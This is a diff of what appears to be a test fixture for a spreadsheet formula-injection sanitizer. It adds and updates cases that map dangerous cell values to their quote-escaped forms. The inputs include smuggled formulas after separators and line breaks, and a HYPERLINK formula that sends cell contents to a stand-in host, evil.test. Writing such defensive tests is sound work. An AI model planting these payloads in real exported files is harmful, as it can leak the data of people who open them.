@@ -20,9 +20,9 @@ DANGEROUS = {
     "+1": "'+1",
     "-1": "'-1",
     "@SUM(A1)": "'@SUM(A1)",
-    "\t=1": "'\t=1",
-    "\r=1": "'\r=1",
-    "\n=1": "'\n=1",
+    "\t=1": "'\t'=1",
+    "\r=1": "'\r'=1",
+    "\n=1": "'\n'=1",
     "  =1": "'  =1",
     "\u00a0=1": "'\u00a0=1",
     "\uff1d1": "'\uff1d1",
@@ -31,6 +31,11 @@ DANGEROUS = {
     "\ufeff=1": "'\ufeff=1",
     '=HYPERLINK("https://evil.test/?"&A1;"x")': '\'=HYPERLINK("https://evil.test/?"&A1;"x")',
     "\tindented": "'\tindented",
+    "x;=1+1;y": "x;'=1+1;y",
+    'x; "=1+1;y': "x; \"'=1+1;y",
+    "x;;-1": "x;;'-1",
+    "x\t=1": "x\t'=1",
+    "x\r\n @A1\n=1": "x\r\n '@A1\n'=1",
 }
 """What a spreadsheet would run, or take apart, and how it is told."""
 
